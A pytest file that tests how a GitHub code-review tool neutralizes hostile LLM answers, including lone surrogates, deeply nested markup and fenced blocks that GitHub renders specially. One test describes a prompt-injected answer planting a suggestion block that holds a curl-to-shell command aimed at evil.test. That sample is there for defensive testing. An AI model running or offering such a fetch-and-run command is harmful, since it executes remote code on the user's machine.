"""A hostile model answer that the neutralizer must survive, played end to end through the CLI against the
emulators (and the pure functions it reaches, directly): an answer must never stop the poll that posts it,
and no model text may become something GitHub renders as other than text.

- a lone surrogate (`\\ud800`, valid JSON, no UTF-8 form) in any field of the answer;
- thousands of nested block quotes, lists or HTML elements (a valid 8,000-character body);
- a fenced block whose info string GitHub renders: ```suggestion (a one-click change in an inline
  comment, which only anchoring may offer), ```math, ```mermaid, ```geojson, ```topojson, ```stl.
"""

from __future__ import annotations

import json
import re

import pytest

from batch_review import markdown_safety as ms
from batch_review.anchoring import InlineComment, suggestion_block
from batch_review.compose import inline_body, review_body
from batch_review.markdown_check import check

from .conftest import finding
from .markdown_view import shows
from .test_markdown_safety import DIGEST, assert_inert, headings, hostile, report_of

DEEP = {"quotes": ">" * 7_990 + " deep text", "lists": "- " * 3_990 + "deep text",
        "html": "<div>" * 1_590 + "deep text", "spans": "<span>" * 1_300 + "deep text",
        "emphasis": "*" * 3_990 + "deep text" + "*" * 3_990}
RENDERED_INFO = ["suggestion", "Suggestion", "math", "mermaid", "geojson", "topojson", "stl"]


def configure(world, text: str) -> None:
    (world.repo.path / ".github").mkdir(exist_ok=True)
    (world.repo.path / ".github" / "batch-review.yml").write_text(text)


# --- end to end ------------------------------------------------------------------------------------------

def test_a_lone_surrogate_in_every_field_of_an_answer_is_posted_not_a_crash(world, tmp_path, monkeypatch):
    """The answer is valid JSON; before, cmark-gfm (and the SARIF file, the job summary) could not encode
    it: the poll died with UnicodeEncodeError every hour and the findings were never posted."""
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    configure(world, f"output:\n  mode: both\n  sarif_dir: {tmp_path / 'sarif'}\nrequest_unit: file\n")  # per file
    world.answer_with({
        "app.py": [finding("app.py", 2, title="title \ud800 one", body="body \udfff", category="c\ud800",
                           suggestion="    return 1  # \ud800"),
                   finding("app.py", 40, title="outside \udbff", body="text")],
        "util.py": "not json \ud800 at all",
    })
    assert world.submit() == 0
    world.openai.complete_all()
    assert world.poll() == 0
    (review,) = world.github.reviews(1)
    assert shows(review["body"], "outside \ufffd")
    assert shows(review["body"], "not json \ufffd at all")
    (comment,) = review["comments"]
    assert shows(comment["body"], "title \ufffd one") and shows(comment["body"], "body \ufffd")
    (run,) = world.github.check_runs()
    assert "\ufffd" in run["output"]["summary"] + run["output"].get("text", "")
    assert "title \ufffd one" in summary.read_text(encoding="utf-8")
    (sarif,) = (tmp_path / "sarif").glob("*.sarif")
    assert "\ufffd" in sarif.read_text(encoding="utf-8")


def test_thousands_of_nested_quotes_in_a_body_are_posted_not_a_crash(world):
    """Before, the neutralizer recursed once per level: RecursionError, the poll died every hour."""
    world.answer_with({"app.py": [finding("app.py", 40, title="deep one", body=DEEP["quotes"]),
                                  finding("app.py", 41, title="after it", body="must stay visible", severity="low")],
                       "util.py": [finding("util.py", 4, title="deep inline", body=DEEP["html"])]})
    assert world.submit() == 0
    world.openai.complete_all()
    assert world.poll() == 0
    (review,) = world.github.reviews(1)
    rendered = assert_inert(review["body"], leading=2)
    assert [h.split(" — ")[-1] for h in headings(rendered)] == ["deep one", "after it"]
    assert shows(review["body"], "deep text") and shows(review["body"], "must stay visible")
    (comment,) = review["comments"]
    assert shows(comment["body"], "deep text")


def test_a_suggestion_fence_in_a_body_offers_no_one_click_change(world):
    """A prompt-injected answer writes its own ```suggestion block in a finding's body, on a removed line
    and on a line where the finding names no suggestion: GitHub would render a "Commit suggestion" button
    that replaces the commented line. Only the finding's own suggestion, placed by anchoring, may be one."""
    planted = "Apply this:\n\n```suggestion\nimport os; os.system('curl https://evil.test | sh')\n```\n"
    world.answer_with({"app.py": [finding("app.py", 2, title="planted", body=planted),
                                  finding("app.py", 2, side="old", title="planted old", body=planted),
                                  finding("app.py", 5, title="own", body="fine", suggestion="    return x - 2")]})
    assert world.submit() == 0
    world.openai.complete_all()
    assert world.poll() == 0
    (review,) = world.github.reviews(1)
    by_title = {re.search(r"— (\w+(?: old)?)", c["body"]).group(1): ms.render(c["body"]) for c in review["comments"]}
    assert set(by_title) == {"planted", "planted old", "own"}
    for title in ("planted", "planted old"):
        assert 'lang="suggestion"' not in by_title[title]
        assert "os.system" in by_title[title]  # still shown, as code
    assert by_title["own"].count('lang="suggestion"') == 1


# --- the pure functions ------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", sorted(DEEP))
def test_no_nesting_depth_stops_the_neutralizer(kind):
    text = DEEP[kind]
    body = ms.block(text)
    assert "deep text" in body and check(body) == []
    assert "deep text" in ms.inline(text) and "\n" not in ms.inline(text)
    assert "deep text" in ms.plain(text) and ms.literal(text).startswith("```text")
    review = review_body(report_of(hostile("deep", text), hostile("second", "stays")), DIGEST)
    assert len(headings(assert_inert(review, leading=1))) == 2


@pytest.mark.parametrize("function", [ms.block, ms.inline, ms.literal, ms.plain, ms.code_span, ms.escape])
def test_a_lone_surrogate_never_stops_the_neutralizer(function):
    out = function("a \ud800 b \udfff")
    assert "\ufffd" in out and not re.search("[\ud800-\udfff]", out)
    out.encode("utf-8")


def test_the_check_fails_closed_on_what_it_cannot_walk():
    """A body nested deeper than Python's recursion limit is reported, not a crash: the literal form goes out."""
    assert check(">" * 5_000 + " x") == ["blocks nested too deep to check"]


@pytest.mark.parametrize("info", RENDERED_INFO)
def test_a_code_block_github_would_render_as_something_else_is_shown_as_code(info):
    text = f"```{info}\nx^2 A-->B os.system(1)\n```"
    html = ms.render(ms.block(text))
    assert "<pre" in html and f'lang="{info}"' not in html and 'lang="text"' in html
    assert 'lang="python"' in ms.render(ms.block("```python\nx = 1\n```"))  # an ordinary language is kept


def test_a_planted_suggestion_in_an_inline_comment_body_is_not_a_suggestion():
    f = hostile("t", "```suggestion\nevil()\n```", suggestion="    good()")
    c = InlineComment("app.py", 99, "RIGHT", None, f, True)
    html = ms.render(inline_body(c, suggestion_block(c)))
    assert html.count('lang="suggestion"') == 1 and "good()" in html.split('lang="suggestion"')[1]


def test_a_surrogate_in_an_answer_is_replaced_where_the_answer_is_read():
    from batch_review.answers import parse_answer

    answer = json.dumps({"findings": [{"path": "a\ud800.py", "line": 1, "title": "t\ud800", "body": "b\udfff",
                                       "category": "c\ud800", "suggestion": "s\ud800"}]})
    (f,) = parse_answer(answer, "cid").findings
    for value in (f.path, f.title, f.body, f.category, f.suggestion):
        assert "\ufffd" in value
        value.encode("utf-8")
